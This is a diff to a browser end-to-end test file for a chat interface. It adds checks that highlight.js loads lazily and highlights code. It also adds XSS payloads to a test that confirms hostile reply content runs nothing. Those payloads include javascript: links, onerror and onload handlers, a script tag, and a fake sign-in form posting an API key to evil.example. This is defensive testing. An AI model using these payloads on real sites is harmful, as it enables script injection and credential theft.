@@ -63,6 +63,9 @@ test('send a message and see the reply stream in; Shift+Enter adds a line; scree
   // Paced: the reply waits for the test, so the composer is seen disabled however fast or slow the machine.
   const fake = await startedFake(t, { paced: true, tokens: ['Here is **bold** text', ' and code:\n\n```js\nconsole.log(1)\n```\n'] })
   const { page } = await openPage(t, fake)
+  // Scripts fetched once the page has loaded.
+  const scripts: string[] = []
+  page.on('request', (request) => request.resourceType() === 'script' && scripts.push(request.url()))
   await page.fill('#input', 'first line')
   await page.press('#input', 'Shift+Enter')
   await page.type('#input', 'second line')
@@ -76,6 +79,10 @@ test('send a message and see the reply stream in; Shift+Enter adds a line; scree
   assert.equal(await lastReply(page).locator('strong').innerText(), 'bold')
   assert.equal((await lastReply(page).locator('pre code').innerText()).trim(), 'console.log(1)')
   assert.equal(await lastReply(page).locator('pre button.copy').count(), 1)
+  // Highlighted once the reply is whole, by highlight.js loaded for it (not with the page).
+  await page.waitForSelector('.message.assistant pre code.hljs .hljs-number')
+  assert.equal(await lastReply(page).locator('pre code .hljs-built_in, pre code .hljs-variable').first().innerText(), 'console')
+  assert.ok(scripts.some((url) => /\/assets\/highlight-\w+\.js$/.test(url)), 'the highlighter was fetched after the page had loaded')
   assert.equal(await page.isDisabled('#send'), false)
   await page.waitForFunction(() => (globalThis as any).document.querySelector('#session-list button')?.textContent === 'first line')
   assert.equal(await page.innerText('#chat-title'), 'first line')
@@ -138,11 +145,15 @@ test('a reply holding HTML and a javascript: link runs nothing', { skip }, async
     '<a href="javascript:window.__xss=4">raw link</a>',
     '<svg onload="window.__xss=5"></svg>',
     '<form action="https://evil.example/steal"><input name="key" placeholder="Your API key"><textarea></textarea><select><option>x</option></select><button>Sign in again</button></form>',
+    '```html\n<img src=z onerror="window.__xss = 7"><script>window.__xss = 8</script>\n```',
   ]
   const fake = await startedFake(t, { tokens: hostile.map((line) => `${line}\n\n`) })
   const { page } = await openPage(t, fake)
   await sendMessage(page, '<img src=y onerror="window.__xss = 6"> from the user')
   await page.waitForFunction(() => (globalThis as any).document.querySelector('.message.assistant')?.getAttribute('data-status') === 'complete')
+  // The highlighter's spans wrap the code's text, never its markup.
+  await page.waitForSelector('.message.assistant pre code.hljs')
+  assert.match(await lastReply(page).locator('pre code').innerText(), /<img src=z onerror=/)
   for (const link of await lastReply(page).locator('a').all()) {
     assert.doesNotMatch((await link.getAttribute('href')) ?? '', /^javascript:/i)
     await link.click({ noWaitAfter: true }).catch(() => {})
